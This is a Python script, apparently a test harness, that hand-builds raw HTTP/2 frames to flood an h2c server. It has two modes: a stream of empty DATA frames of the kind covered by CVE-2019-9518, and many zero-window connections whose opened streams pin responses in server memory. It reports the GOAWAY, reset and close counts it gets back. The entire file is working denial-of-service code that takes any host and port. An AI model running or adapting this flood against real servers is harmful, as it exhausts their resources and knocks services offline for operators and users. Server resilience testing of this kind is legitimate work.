#!/usr/bin/env python3
"""HTTP/2 resource floods from raw frames (no h2 library), on h2c connections:

  h2_flood.py HOST PORT AUTHORITY empty-data SECONDS
      one POST stream opened (HEADERS without END_STREAM), then empty DATA frames (no END_STREAM)
      as fast as the socket takes them (CVE-2019-9518 class), until a GOAWAY, a close or SECONDS.
  h2_flood.py HOST PORT AUTHORITY zero-window SECONDS CONNS STREAMS PATH
      CONNS connections, each announcing SETTINGS_INITIAL_WINDOW_SIZE 0 and opening STREAMS GET
      streams for PATH<conn>-<i>, then never opening a window: every response stays on the server.
      Holds them up to SECONDS (less once every stream was reset), reading what comes (HEADERS,
      RST_STREAM, GOAWAY).

Prints one line: "sent=<frames or streams> goaway=<code or -> closed=<conns closed by the server>
rst=<streams reset by the server> seconds=<elapsed>"."""
import select
import socket
import struct
import sys
import time

host, port, authority, mode, secs = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5])


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


def lit(index, value):
    v = value.encode()
    assert index < 15 and len(v) < 127
    return bytes([index, len(v)]) + v


def block(method_idx, path):  # :method (2 GET, 3 POST), :scheme http, :path, :authority
    return bytes([0x80 | method_idx]) + b"\x86" + lit(4, path) + lit(1, authority)


class Conn:
    def __init__(self, settings=b""):
        self.s = socket.create_connection((host, port))
        self.s.setblocking(False)
        self.inbuf = b""
        self.goaway = None
        self.closed = False
        self.rst = 0
        self.out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, settings)

    def pump(self):
        while not self.closed:
            try:
                d = self.s.recv(262144)
            except BlockingIOError:
                break
            except ConnectionError:
                self.closed = True
                break
            if not d:
                self.closed = True
                break
            self.inbuf += d
        while len(self.inbuf) >= 9:
            n = int.from_bytes(self.inbuf[:3], "big")
            if len(self.inbuf) < 9 + n:
                break
            t, fl = self.inbuf[3], self.inbuf[4]
            p = self.inbuf[9:9 + n]
            self.inbuf = self.inbuf[9 + n:]
            if t == 7 and self.goaway is None:
                self.goaway = struct.unpack(">I", p[4:8])[0]
            elif t == 3:
                self.rst += 1
            elif t == 4 and not fl & 1:
                self.out += frame(4, 1, 0)  # SETTINGS ACK

    def flush(self):
        while self.out and not self.closed:
            try:
                n = self.s.send(self.out)
            except BlockingIOError:
                return False
            except ConnectionError:
                self.closed = True
                return False
            self.out = self.out[n:]
        return True


t0 = time.time()
if mode == "empty-data":
    c = Conn()
    c.out += frame(1, 4, 1, block(3, "/nostore/flood"))  # HEADERS, END_HEADERS, no END_STREAM
    empty = frame(0, 0, 1) * 512
    sent = 0
    while time.time() - t0 < secs and not c.closed and c.goaway is None:
        if len(c.out) < 65536:
            c.out += empty
            sent += 512
        c.flush()
        c.pump()
        select.select([c.s], [c.s] if c.out else [], [], 0.001)
    sent -= len(c.out) // 9
    # the GOAWAY and the close can arrive in two reads: wait a little for the close (up to 3 s)
    t1 = time.time()
    while c.goaway is not None and not c.closed and time.time() - t1 < 3:
        select.select([c.s], [], [], 0.05)
        c.pump()
    print("sent=%d goaway=%s closed=%d rst=%d seconds=%.1f" % (sent, "-" if c.goaway is None else c.goaway,
                                                               int(c.closed), c.rst, time.time() - t0))
else:
    nconn, nstreams, path = int(sys.argv[6]), int(sys.argv[7]), sys.argv[8]
    conns = []
    for k in range(nconn):
        c = Conn(struct.pack(">HI", 4, 0))  # SETTINGS_INITIAL_WINDOW_SIZE = 0
        for i in range(nstreams):
            c.out += frame(1, 5, 1 + 2 * i, block(2, "%s%d-%d" % (path, k, i)))
        conns.append(c)
    while time.time() - t0 < secs:
        for c in conns:
            c.flush()
            c.pump()
        if all(c.closed for c in conns) or sum(c.rst for c in conns) >= nconn * nstreams:
            break  # every stream was reset (or every connection closed): nothing more to see
        time.sleep(0.05)
    g = [c.goaway for c in conns if c.goaway is not None]
    print("sent=%d goaway=%s closed=%d rst=%d seconds=%.1f" % (nconn * nstreams, g[0] if g else "-",
                                                               sum(c.closed for c in conns),
                                                               sum(c.rst for c in conns), time.time() - t0))
